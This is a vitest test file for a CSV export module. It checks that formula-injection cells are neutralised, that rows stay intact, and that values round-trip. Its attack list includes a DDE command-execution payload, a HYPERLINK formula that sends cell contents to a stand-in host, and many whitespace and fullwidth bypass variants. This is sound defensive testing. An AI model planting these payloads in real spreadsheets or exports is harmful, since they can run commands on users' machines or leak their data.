import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { csvLines, csvOf, neutralized, restored } from "#convex/exports/rules/csv.ts";

/** What people have put into cells to make a spreadsheet do something. */
const attacks = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00A0=1+1",
  "\u200B=1+1",
  "\uFEFF=1+1",
  "\u202E=1+1",
  "\u0000=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.test?"&A1,"here")',
  '"=1+1',
  '";=1+1',
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "|calc",
  "%0A=1+1",
];

/** How a spreadsheet decides, written apart from the code: the first sign that it sees after blanks. */
const runs = (cell: string) => /^[\p{White_Space}\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u.test(cell);

const read = (text: string) =>
  Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { skipEmptyLines: true, newline: "\r\n" }).data;

describe("a table that leaves the system", () => {
  test.each(attacks)("runs nothing in a spreadsheet: %j", (attack) => {
    const [, row = []] = read(csvOf(["name", "note"], [[attack, `before ${attack}`]]));
    expect(row).toHaveLength(2);
    expect(runs(row[0] ?? "")).toBe(false);
  });

  test("runs nothing whatever the cells hold, and stays a table", () => {
    const cell = fc.oneof(
      fc.string({ unit: "binary", maxLength: 20 }),
      fc.tuple(fc.constantFrom(...attacks), fc.string({ maxLength: 9 })).map((parts) => parts.join("")),
    );
    const table = fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 8 });
    fc.assert(
      fc.property(table, (rows) => {
        const back = read(csvOf(["a", "b", "c"], rows));
        expect(back).toHaveLength(rows.length + 1);
        for (const row of back) {
          expect(row).toHaveLength(3);
          expect(row.some(runs)).toBe(false);
        }
      }),
      { numRuns: Number(process.env.CSV_RUNS ?? 500) },
    );
  });

  test("keeps numbers as numbers, and empty cells empty", () => {
    expect(csvLines([[-5, 0.5, null, undefined, true, Number.NaN]])).toBe("-5,0.5,,,true,\r\n");
  });

  test("quotes what would break the row", () => {
    expect(csvLines([['a "b"', "c,d", "e\r\nf"]])).toBe('"a ""b""","c,d","e\r\nf"\r\n');
  });

  test("reads back as it was written", () => {
    for (const text of ["=1+1", "-5 degrees", "plain", "'quoted'", "O'Hara", "@home"]) {
      expect(restored(String(neutralized(text)))).toBe(text);
    }
  });
});
